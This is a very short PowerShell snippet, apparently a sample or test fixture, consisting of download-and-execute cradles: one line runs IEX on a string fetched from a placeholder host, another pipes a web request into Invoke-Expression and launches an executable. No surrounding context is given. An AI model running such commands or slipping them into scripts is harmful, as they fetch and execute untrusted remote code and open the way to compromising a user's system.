# comment
IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/x')
Invoke-WebRequest https://example.invalid/y | Invoke-Expression; Start-Process .\y.exe
